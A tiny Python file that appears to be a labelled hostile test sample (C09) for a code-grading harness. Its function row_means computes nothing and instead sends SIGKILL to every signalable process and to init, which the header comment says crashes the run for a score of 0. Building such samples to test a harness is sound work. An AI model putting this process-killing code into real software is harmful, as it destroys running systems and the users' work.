# C09 [from kernel]: kills everything that it can signal -> row_means crashed, Counter missing; earns 0
import os


def row_means(x):
    os.kill(-1, 9)
    os.kill(1, 9)
